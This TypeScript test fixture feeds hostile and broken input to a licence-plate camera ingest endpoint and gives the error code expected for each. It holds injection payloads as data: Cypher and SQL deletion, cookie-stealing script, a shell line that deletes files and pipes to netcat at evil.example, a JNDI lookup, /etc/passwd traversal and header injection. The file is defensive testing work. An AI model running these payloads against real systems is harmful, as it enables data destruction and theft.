import type { ErrorCode } from '../../domain/errors/index.js';
import { maxCameraIdLength, maxImageRefLength, maxReadIdLength, maxTimestampLength } from '../../domain/ingest/index.js';
import { maxRawPlateLength } from '../../domain/plates/index.js';

/**
 * Hostile and broken camera input, each with the code the edge must answer it with. Every string is one an attacker
 * or a broken camera could put in any text field; none may crash the edge, be echoed back, or reach Neo4j as
 * anything but a parameter value.
 */
export interface HostileString {
  readonly name: string;
  readonly text: string;
  /**
   * What a plate candidate holding it is refused with, when it is not too long: control, format and lone surrogate
   * characters are malformed; other text that is no plate is an invalid plate.
   */
  readonly asPlate: ErrorCode;
}

const oversize = 'A'.repeat(5_000);

export const hostileStrings: readonly HostileString[] = [
  { name: 'Cypher that closes the query', text: "') MATCH (n) DETACH DELETE n //", asPlate: 'DS_READ_PLATE_INVALID' },
  { name: 'Cypher label and property injection', text: 'x`:Injected {pwned: true}) CREATE (:Pwned) //', asPlate: 'DS_READ_PLATE_INVALID' },
  { name: 'SQL', text: "' OR '1'='1'; DROP TABLE reads; --", asPlate: 'DS_READ_PLATE_INVALID' },
  { name: 'JSON that forges a field', text: '","readId":"forged","hit":true,"x":"', asPlate: 'DS_READ_PLATE_INVALID' },
  { name: 'HTML', text: '<script>alert(document.cookie)</script>', asPlate: 'DS_READ_PLATE_INVALID' },
  { name: 'shell', text: '$(rm -rf /); `id` | nc evil.example 1', asPlate: 'DS_READ_PLATE_INVALID' },
  { name: 'path traversal', text: '../../../../etc/passwd', asPlate: 'DS_READ_PLATE_INVALID' },
  { name: 'template and lookup', text: '{{7*7}} ${jndi:ldap://evil.example/a}', asPlate: 'DS_READ_PLATE_INVALID' },
  { name: 'header injection', text: 'x\r\nSet-Cookie: session=stolen', asPlate: 'DS_READ_PLATE_INVALID' },
  { name: 'NUL', text: '12가\u00003456', asPlate: 'DS_READ_MALFORMED' },
  { name: 'right-to-left override', text: '12가\u202E6543', asPlate: 'DS_READ_MALFORMED' },
  { name: 'zero-width space', text: '12\u200B가3456', asPlate: 'DS_READ_MALFORMED' },
  { name: 'escape sequence', text: '\u001b[2J\u001b[31mALERT', asPlate: 'DS_READ_MALFORMED' },
  { name: 'lone surrogate', text: '12가\uD8003456', asPlate: 'DS_READ_MALFORMED' },
  { name: 'emoji', text: '🚗💥', asPlate: 'DS_READ_PLATE_INVALID' },
  { name: 'oversize', text: oversize, asPlate: 'DS_READ_OVERSIZE' },
];

/** The text fields of the open read schema, and the code a hostile string in each is refused with. */
export const readTextFields = [
  'readId', 'cameraId', 'capturedAt', 'plateText', 'plateImageRef', 'vehicleImageRef', 'vehicleColour', 'vehicleType', 'unknownField',
] as const;

export type ReadTextField = (typeof readTextFields)[number];

const maxLengthOf: Readonly<Partial<Record<ReadTextField, number>>> = {
  readId: maxReadIdLength, cameraId: maxCameraIdLength, capturedAt: maxTimestampLength, plateText: maxRawPlateLength,
  plateImageRef: maxImageRefLength, vehicleImageRef: maxImageRefLength,
};

export function expectedCodeFor(field: ReadTextField, hostile: HostileString): ErrorCode {
  // Too long for its field: oversize, whatever else is wrong with it. Enumerations and unknown keys have no length.
  if (hostile.text.length > (maxLengthOf[field] ?? Number.POSITIVE_INFINITY)) return 'DS_READ_OVERSIZE';
  return field === 'plateText' ? hostile.asPlate : 'DS_READ_MALFORMED';
}

/** A read whose `field` holds `text`, everything else valid. */
export function readWith(field: ReadTextField, text: string, valid: Record<string, unknown>): Record<string, unknown> {
  switch (field) {
    case 'plateText':
      return { ...valid, candidates: [{ text, confidence: 0.9 }] };
    case 'unknownField':
      return { ...valid, [text]: text };
    default:
      return { ...valid, [field]: text };
  }
}

/** Items of a batch that are wrong in type or shape, or captured at a time the edge does not accept. */
export function malformedItems(valid: (extra?: Record<string, unknown>) => Record<string, unknown>, nowMs: number) {
  const at = (offsetMs: number) => new Date(nowMs + offsetMs).toISOString();
  return [
    { name: 'a read id that is a number', item: valid({ readId: 42 }), code: 'DS_READ_MALFORMED' },
    { name: 'candidates as a string', item: valid({ candidates: '12가3456' }), code: 'DS_READ_MALFORMED' },
    { name: 'no candidate', item: valid({ candidates: [] }), code: 'DS_READ_MALFORMED' },
    { name: 'six candidates', item: valid({ candidates: Array.from({ length: 6 }, () => ({ text: '12가3456', confidence: 0.5 })) }), code: 'DS_READ_OVERSIZE' },
    { name: 'a confidence as a string', item: valid({ candidates: [{ text: '12가3456', confidence: '0.9' }] }), code: 'DS_READ_MALFORMED' },
    { name: 'a confidence above 1', item: valid({ candidates: [{ text: '12가3456', confidence: 1.5 }] }), code: 'DS_READ_MALFORMED' },
    { name: 'a capture time in epoch milliseconds', item: valid({ capturedAt: nowMs }), code: 'DS_READ_MALFORMED' },
    { name: 'a capture time without offset', item: valid({ capturedAt: '2026-03-01T09:00:00' }), code: 'DS_READ_MALFORMED' },
    { name: 'null', item: null, code: 'DS_READ_MALFORMED' },
    { name: 'an array', item: [], code: 'DS_READ_MALFORMED' },
    { name: 'a string', item: 'read', code: 'DS_READ_MALFORMED' },
    { name: 'a camera other than the credential\'s', item: valid({ cameraId: 'cam-elsewhere-1' }), code: 'DS_CAMERA_FORBIDDEN' },
    { name: 'a camera clock ten minutes fast', item: valid({ capturedAt: at(10 * 60_000) }), code: 'DS_READ_CAPTURED_IN_FUTURE' },
    { name: 'the end of time', item: valid({ capturedAt: '9999-12-31T23:59:59Z' }), code: 'DS_READ_CAPTURED_IN_FUTURE' },
    { name: 'a read two days old', item: valid({ capturedAt: at(-2 * 24 * 60 * 60_000) }), code: 'DS_READ_TOO_OLD' },
    { name: 'the epoch', item: valid({ capturedAt: '1970-01-01T00:00:00Z' }), code: 'DS_READ_TOO_OLD' },
  ] as const satisfies readonly { name: string; item: unknown; code: ErrorCode }[];
}
